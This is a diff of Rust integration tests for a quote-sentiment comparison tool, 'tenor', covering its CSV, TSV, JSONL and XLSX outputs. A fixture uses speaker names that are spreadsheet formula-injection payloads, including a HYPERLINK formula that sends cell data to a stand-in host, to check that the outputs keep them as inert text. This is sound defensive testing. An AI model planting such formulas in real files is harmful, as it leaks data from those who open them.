@@ -1043,3 +1043,352 @@ fn article_groups_prefer_the_quote_tables_own_column_and_undo_the_formula_guard(
         "{csv}"
     );
 }
+
+// `tenor compare --format` and comparing from score folders of every text format, through the binary.
+
+/// Runs `tenor` with `args` in `dir`, expecting success.
+fn tenor_ok(args: &[&str], dir: &std::path::Path) -> std::process::Output {
+    let output = std::process::Command::new(env!("CARGO_BIN_EXE_tenor"))
+        .args(args)
+        .current_dir(dir)
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "tenor {args:?}: {output:?}");
+    output
+}
+
+#[test]
+fn a_folder_scored_in_any_text_format_gives_the_same_comparison() {
+    let dir = tempfile::tempdir().unwrap();
+    fs::write(dir.path().join("harbour.jsonl"), HARBOUR_JSONL).unwrap();
+    let formats: [(&str, &[&str]); 4] = [
+        ("csv", &[]),
+        ("jsonl", &["--format", "jsonl"]),
+        ("tsv", &["--format", "tsv", "--excel"]),
+        (
+            "semicolons",
+            &["--excel", "--delimiter", ";", "--decimal-comma"],
+        ),
+    ];
+    let mut tables = Vec::new();
+    for (name, options) in formats {
+        let folder = format!("scored_{name}");
+        let mut args = vec!["score", "harbour.jsonl", "--quiet", "--out", &folder];
+        args.extend(options);
+        tenor_ok(&args, dir.path());
+        // --by source reads the articles table in the folder's own format.
+        let out = format!("{name}.csv");
+        let compare = [
+            "compare",
+            &folder,
+            "--speaker",
+            "Brennick",
+            "--speaker",
+            "Vell",
+            "--per-topic",
+            "--by",
+            "source",
+            "--ci-resamples",
+            "200",
+            "--out",
+            &out,
+        ];
+        let shown = tenor_ok(&compare, dir.path()).stdout;
+        tables.push((
+            name,
+            fs::read_to_string(dir.path().join(&out)).unwrap(),
+            shown,
+        ));
+    }
+    let (_, csv, shown) = &tables[0];
+    // Two sources, nine scores each, and both speakers are quoted.
+    assert!(read_comparison(&dir.path().join("csv.csv")).len() >= 18);
+    assert!(csv.contains("Coastal Herald,") && csv.contains("Northern Post,"));
+    for (name, table, terminal) in &tables[1..] {
+        assert_eq!(table, csv, "scored as {name}");
+        assert_eq!(terminal, shown, "scored as {name}");
+    }
+}
+
+#[test]
+fn a_folder_holding_only_a_workbook_is_refused_with_what_to_do() {
+    let dir = tempfile::tempdir().unwrap();
+    fs::write(dir.path().join("harbour.jsonl"), HARBOUR_JSONL).unwrap();
+    tenor_ok(
+        &[
+            "score",
+            "harbour.jsonl",
+            "--quiet",
+            "--format",
+            "xlsx",
+            "--out",
+            "book",
+        ],
+        dir.path(),
+    );
+    let output = tenor_compare(
+        &["book", "--speaker", "Brennick", "--speaker", "Vell"],
+        dir.path(),
+    );
+    assert_eq!(output.status.code(), Some(2), "{output:?}");
+    let message = String::from_utf8(output.stderr).unwrap();
+    assert!(
+        message.contains("only tenor.xlsx") && message.contains("--format csv, tsv or jsonl"),
+        "{message}"
+    );
+}
+
+/// A score folder holding only a quotes.jsonl written by hand, as `--format jsonl` writes text: as is.
+/// Speakers with names that spreadsheets would run as formulas, and one ordinary speaker.
+fn hostile_speakers_folder() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    let speakers = [
+        "=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")",
+        "@SUM(1)",
+        "Ana Petrova",
+    ];
+    let mut lines = String::new();
+    for (s, speaker) in speakers.iter().enumerate() {
+        for (i, warmth) in [0.1, 0.3, 0.2, 0.4].iter().enumerate() {
+            let warmth = warmth * (s as f64 - 1.0);
+            let row = serde_json::json!({
+                "article_id": format!("a{i}"),
+                "quote_id": format!("a{i}:{s}"),
+                "speaker": speaker,
+                "topics": "+harbour",
+                "sentiment": 0.0, "positive": 0.0, "negative": 0.0, "neutral": 1.0,
+                "cooperation": 0.0, "warmth": warmth, "threat": 0.0,
+                "assertiveness": 0.0, "irony": 0.0,
+            });
+            lines += &format!("{row}\n");
+        }
+    }
+    fs::write(dir.path().join("quotes.jsonl"), lines).unwrap();
+    dir
+}
+
+#[test]
+fn speakers_named_like_formulas_stay_text_in_every_format() {
+    let dir = hostile_speakers_folder();
+    let hyperlink = "=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")";
+    let speakers = ["--speaker", hyperlink, "--speaker", "@SUM(1)"];
+    for out in ["c.csv", "c.tsv", "c.jsonl", "c.xlsx"] {
+        let mut args = vec!["compare", "."];
+        args.extend(speakers);
+        args.extend(["--per-topic", "--ci-resamples", "200", "--out", out]);
+        tenor_ok(&args, dir.path());
+    }
+    let csv = read_comparison(&dir.path().join("c.csv"));
+    assert_eq!(csv[0]["speaker_a"], format!("'{hyperlink}"));
+    assert_eq!(csv[0]["speaker_b"], "'@SUM(1)");
+    assert_eq!(csv[0]["topic"], "(all)");
+    assert_eq!(csv[9]["topic"], "'+harbour");
+    let tsv = fs::read_to_string(dir.path().join("c.tsv")).unwrap();
+    let first = tsv.lines().nth(1).unwrap();
+    // The TSV quotes the name for its double quotes; inside them it starts with the guard.
+    assert!(first.contains("\t\"'=HYPERLINK(\"\"http"), "{first}");
+    assert!(first.contains("\t'@SUM(1)\t"), "{first}");
+    // JSON Lines is not read by spreadsheets and keeps text as is.
+    let jsonl = fs::read_to_string(dir.path().join("c.jsonl")).unwrap();
+    let row: serde_json::Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+    assert_eq!(row["speaker_a"], hyperlink);
+    assert_eq!(row["n_a"], 4);
+
+    use calamine::{Data, Reader, Xlsx, open_workbook};
+    let mut book: Xlsx<_> = open_workbook(dir.path().join("c.xlsx")).unwrap();
+    let rows = book.worksheet_range("compare").unwrap();
+    let first: Vec<Data> = rows.rows().nth(1).unwrap().to_vec();
+    assert_eq!(first[2], Data::String(hyperlink.to_string()));
+    assert_eq!(first[3], Data::String("@SUM(1)".to_string()));
+    for name in book.sheet_names() {
+        let formulas = book.worksheet_formula(&name).unwrap();
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "formula in sheet {name}"
+        );
+    }
+}
+
+#[test]
+fn an_xlsx_comparison_holds_the_csvs_values_and_a_readme_for_every_column() {
+    let dir = hostile_speakers_folder();
+    let common = [
+        "compare",
+        ".",
+        "--speaker",
+        "Petrova",
+        "--speaker",
+        "@SUM(1)",
+        "--speaker",
+        "=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")",
+        "--ci-resamples",
+        "200",
+    ];
+    let mut csv_args = common.to_vec();
+    csv_args.extend(["--out", "c.csv", "--similarity", "s.csv"]);
+    tenor_ok(&csv_args, dir.path());
+    let mut xlsx_args = common.to_vec();
+    xlsx_args.extend(["--out", "c.xlsx", "--similarity"]);
+    tenor_ok(&xlsx_args, dir.path());
+    // Without FILE, the similarity table is a sheet of the workbook: no other file appears.
+    assert!(!dir.path().join("similarity").exists());
+
+    use calamine::{Data, Reader, Xlsx, open_workbook};
+    let mut book: Xlsx<_> = open_workbook(dir.path().join("c.xlsx")).unwrap();
+    assert_eq!(book.sheet_names(), ["compare", "similarity", "README"]);
+    for (sheet, file) in [("compare", "c.csv"), ("similarity", "s.csv")] {
+        let range = book.worksheet_range(sheet).unwrap();
+        let cells: Vec<Vec<Data>> = range.rows().map(|r| r.to_vec()).collect();
+        let mut reader = csv::Reader::from_path(dir.path().join(file)).unwrap();
+        let mut csv: Vec<Vec<String>> =
+            vec![reader.headers().unwrap().iter().map(String::from).collect()];
+        csv.extend(
+            reader
+                .records()
+                .map(|r| r.unwrap().iter().map(String::from).collect()),
+        );
+        assert_eq!(cells.len(), csv.len(), "{sheet}");
+        // Three speakers: three pairs, and for the comparison nine scores each.
+        let pairs = if sheet == "compare" { 27 } else { 3 };
+        assert_eq!(csv.len(), 1 + pairs, "{sheet}");
+        for (row, (in_book, in_csv)) in cells.iter().zip(&csv).enumerate() {
+            assert_eq!(in_book.len(), in_csv.len(), "{sheet} row {row}");
+            for (cell, text) in in_book.iter().zip(in_csv) {
+                // The CSV guards formula-like text with a leading '; the workbook stores text as text.
+                let text = text
+                    .strip_prefix('\'')
+                    .filter(|rest| tenor::output::looks_like_formula(rest))
+                    .unwrap_or(text);
+                let same = match cell {
+                    Data::Empty => text.is_empty(),
+                    Data::String(s) => s == text,
+                    Data::Float(x) => text.parse::<f64>().ok() == Some(*x),
+                    other => panic!("{sheet} row {row}: unexpected cell {other:?}"),
+                };
+                assert!(same, "{sheet} row {row}: {cell:?} in xlsx, {text:?} in csv");
+            }
+        }
+    }
+    // Numbers are numbers: counts and means.
+    let compare = book.worksheet_range("compare").unwrap();
+    assert!(matches!(compare.get((1, 4)), Some(Data::Float(n)) if *n == 4.0));
+    assert!(matches!(compare.get((1, 6)), Some(Data::Float(_))));
+
+    let readme = book.worksheet_range("README").unwrap();
+    let defined: Vec<(String, String)> = readme
+        .rows()
+        .filter_map(|r| match (r.first(), r.get(1), r.get(4)) {
+            (
+                Some(Data::String(sheet)),
+                Some(Data::String(column)),
+                Some(Data::String(meaning)),
+            ) if !meaning.is_empty() => Some((sheet.clone(), column.clone())),
+            _ => None,
+        })
+        // The README table's own header row.
+        .skip(1)
+        .collect();
+    let mut expected: Vec<(String, String)> = Comparison::CSV_COLUMNS
+        .iter()
+        .map(|c| ("compare".to_string(), c.to_string()))
+        .collect();
+    expected.extend(
+        tenor::compare::Similarity::COLUMNS
+            .iter()
+            .map(|c| ("similarity".to_string(), c.to_string())),
+    );
+    assert_eq!(defined, expected);
+}
+
+#[test]
+fn spreadsheet_options_shape_the_comparison_as_they_do_the_score_tables() {
+    let dir = score_folder_by_hand();
+    let args = [
+        "compare",
+        ".",
+        "--speaker",
+        "Petrova",
+        "--speaker",
+        "Horvat",
+        "--ci-resamples",
+        "200",
+        "--out",
+        "c.csv",
+        "--excel",
+        "--delimiter",
+        ";",
+        "--decimal-comma",
+    ];
+    tenor_ok(&args, dir.path());
+    let written = fs::read(dir.path().join("c.csv")).unwrap();
+    assert!(written.starts_with(b"\xEF\xBB\xBF"));
+    let text = String::from_utf8(written[3..].to_vec()).unwrap();
+    assert!(text.starts_with("score;topic;speaker_a;"), "{text}");
+    assert!(text.contains("\r\n"));
+    // Warmth: Ana 0.6, 0.2, 0.4, 0.1, -0.1, 0.3 (mean 0.25); Ivan -0.2, -0.4, 0.0, 0.5, 0.2 (0.02).
+    let warmth = text.lines().find(|l| l.starts_with("warmth;")).unwrap();
+    assert!(
+        warmth.starts_with("warmth;(all);Ana Petrova;Ivan Horvat;6;5;0,2500;0,0200;0,2300;"),
+        "{warmth}"
+    );
+
+    // Options that do not fit are usage errors, found before any work.
+    for bad in [
+        &["--out", "c.xlsx", "--excel"][..],
+        &["--out", "c.csv", "--similarity"],
+        &["--out", "c.csv", "--decimal-comma"],
+    ] {
+        let mut args = vec![".", "--speaker", "Petrova", "--speaker", "Horvat"];
+        args.extend(bad);
+        let output = tenor_compare(&args, dir.path());
+        assert_eq!(output.status.code(), Some(2), "{bad:?}: {output:?}");
+    }
+}
+
+#[test]
+fn a_folder_scored_twice_in_different_formats_is_read_from_its_newest_table() {
+    let dir = fixture_dir();
+    let older = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
+    fs::File::options()
+        .write(true)
+        .open(dir.path().join("quotes.csv"))
+        .unwrap()
+        .set_modified(older)
+        .unwrap();
+    // A later run as JSON Lines found one quote, by someone else (cells as text, which reads too).
+    let mut quote = serde_json::Map::new();
+    let header = QUOTES_CSV.lines().next().unwrap().split(',');
+    let mut cells = csv::Reader::from_reader(QUOTES_CSV.as_bytes());
+    let first = cells.records().next().unwrap().unwrap();
+    for (column, cell) in header.zip(first.iter()) {
+        quote.insert(column.to_string(), cell.into());
+    }
+    quote.insert("speaker".into(), "Olga Berg".into());
+    fs::write(
+        dir.path().join("quotes.jsonl"),
+        format!("{}\n", serde_json::Value::Object(quote)),
+    )
+    .unwrap();
+    assert_eq!(
+        QuoteTable::find_in(dir.path()).unwrap(),
+        Some(dir.path().join("quotes.jsonl"))
+    );
+    let table = QuoteTable::from_path(dir.path()).unwrap();
+    assert_eq!(table.rows.len(), 1);
+    assert_eq!(table.rows[0].speaker, "Olga Berg");
+    assert_eq!(table.rows[0].score(ScoreColumn::Sentiment), Some(-0.42));
+
+    // A run without quotes leaves an empty quotes.jsonl: no speaker to find, said as such.
+    fs::write(dir.path().join("quotes.jsonl"), "").unwrap();
+    let empty = QuoteTable::from_path(dir.path()).unwrap();
+    assert!(empty.rows.is_empty());
+    let err = find_speaker(&empty.rows, "Berg").unwrap_err();
+    assert!(err.to_string().contains("0 speakers have quotes"), "{err}");
+    // An empty folder is not a score output.
+    let nothing = tempfile::tempdir().unwrap();
+    assert_eq!(QuoteTable::find_in(nothing.path()).unwrap(), None);
+    assert!(matches!(
+        QuoteTable::from_path(nothing.path()),
+        Err(Error::Input { .. })
+    ));
+}
